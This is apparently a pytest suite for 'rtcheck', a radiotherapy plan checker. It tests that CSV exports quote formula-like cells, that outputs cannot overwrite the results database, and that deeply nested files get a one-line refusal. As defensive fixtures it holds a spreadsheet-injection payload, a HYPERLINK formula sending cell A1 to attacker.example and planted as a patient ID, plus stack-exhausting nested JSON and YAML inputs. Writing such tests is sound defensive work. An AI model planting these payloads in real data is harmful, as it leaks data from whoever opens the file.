"""What rtcheck writes can hurt no one: no output over an input, the results database or
another output; no CSV cell a spreadsheet runs as a formula; no file nested deep enough to
exhaust the stack taken for more than a one-line refusal."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from rtcheck.outputs.cells import cell
from rtcheck.phantom.thorax import ThoraxPhantom, write_thorax_phantom

FORMULA_ID = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


def rtcheck(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "rtcheck.cli", *args], capture_output=True,
                          text=True, timeout=300, cwd=cwd)  # fmt: skip


@pytest.fixture(scope="module")
def checked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive of one plan whose PatientID is a spreadsheet formula, checked into
    ``results.db``, with a subject map for the exports."""
    root = tmp_path_factory.mktemp("formula")
    write_thorax_phantom(root / "archive" / "p1", ThoraxPhantom(patient_id=FORMULA_ID,
                                                                seed="formula"))  # fmt: skip
    done = rtcheck("batch", str(root / "archive"), "--db", str(root / "results.db"),
                   "--workers", "1", "--out", str(root / "results.csv"))  # fmt: skip
    assert done.returncode == 0, done.stderr
    with (root / "subjects.csv").open("w", newline="") as out:
        csv.writer(out).writerows([["patient_id", "subject_key"], [FORMULA_ID, "-2+3"]])
    return root


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\tx", "'\tx"), ("\rx", "'\rx"), ("-1.5", "-1.5"), (-1.5, -1.5), ("PHANTOM-1", "PHANTOM-1"),
     ("", ""), (None, None)],
)  # fmt: skip
def test_text_a_spreadsheet_would_run_gets_a_quote(value, written):
    assert cell(value) == written


def test_no_csv_written_holds_a_live_formula(checked, tmp_path):
    def first_cells(text: str) -> list[str]:
        return [c for row in csv.reader(io.StringIO(text)) for c in row]

    batch_csv = (checked / "results.csv").read_text()
    results = rtcheck("results", "--db", str(checked / "results.db"), "--format", "csv").stdout
    redcap = rtcheck("export", "--db", str(checked / "results.db"), "--format", "redcap",
                     "--map-subjects", str(checked / "subjects.csv"),
                     "--out", str(tmp_path / "import.csv"))  # fmt: skip
    assert redcap.returncode == 0, redcap.stderr
    for text in (batch_csv, results, (tmp_path / "import.csv").read_text()):
        values = first_cells(text)
        assert not [v for v in values if v.startswith(("=", "+", "@", "\t", "\r"))]
        assert not [v for v in values if v.startswith("-") and not _number(v)]
    assert f"'{FORMULA_ID}" in first_cells(batch_csv)
    assert "'-2+3" in first_cells((tmp_path / "import.csv").read_text())


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_an_output_over_the_database_or_another_output_is_refused_before_any_work(checked):
    database = checked / "results.db"
    before = database.read_bytes()
    refusals = [
        (["batch", str(checked / "archive"), "--db", str(database), "--out", str(database)],
         "is the results database"),
        (["batch", str(checked / "archive"), "--db", f"sqlite:///{database}",
          "--html", str(database)], "is the results database"),
        (["pull", "--pacs", "PACS@127.0.0.1:1", "--db", str(database), "--out", str(database)],
         "is the results database"),
        (["export", "--db", str(database), "--format", "redcap", "--map-subjects",
          str(checked / "subjects.csv"), "--out", str(database)], "is the results database"),
        (["export", "--db", str(database), "--format", "redcap", "--map-subjects",
          str(checked / "subjects.csv"), "--out", str(checked / "x.csv"), "--dictionary",
          str(checked / "x.csv")], "are the same file"),
        (["check", str(checked / "archive" / "p1"), "--json", str(checked / "same"),
          "--html", str(checked / "same")], "are the same file"),
        (["batch", str(checked / "archive"), "--db", str(database), "--out",
          str(checked / "o.csv"), "--html", str(checked / "./o.csv")], "are the same file"),
    ]  # fmt: skip
    for args, said in refusals:
        done = rtcheck(*args)
        assert done.returncode == 2 and said in done.stderr, (args, done.stderr)
        assert done.stderr.count("\n") == 1
    assert database.read_bytes() == before
    assert not (checked / "same").exists() and not (checked / "x.csv").exists()


@pytest.mark.parametrize("kind", ["record", "protocol", "map"])
def test_a_file_nested_past_the_stack_is_a_one_line_refusal(checked, tmp_path, kind):
    plan = checked / "archive" / "p1"
    if kind == "record":
        (tmp_path / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
        args = ["export", str(tmp_path / "deep.json"), "--format", "fhir", "--map-subjects",
                str(checked / "subjects.csv")]  # fmt: skip
    elif kind == "protocol":
        (tmp_path / "deep.yaml").write_text("name: x\noar_limits: " + "[" * 5000 + "]" * 5000)
        args = ["check", str(plan), "--protocol", str(tmp_path / "deep.yaml")]
    else:
        (tmp_path / "deep.yaml").write_text("lesions: " + "{a: " * 3000 + "1" + "}" * 3000)
        args = ["check", str(plan), "--map", str(tmp_path / "deep.yaml")]
    done = rtcheck(*args)
    assert done.returncode == 2, done.stderr
    assert done.stderr.count("\n") == 1 and "nested" in done.stderr
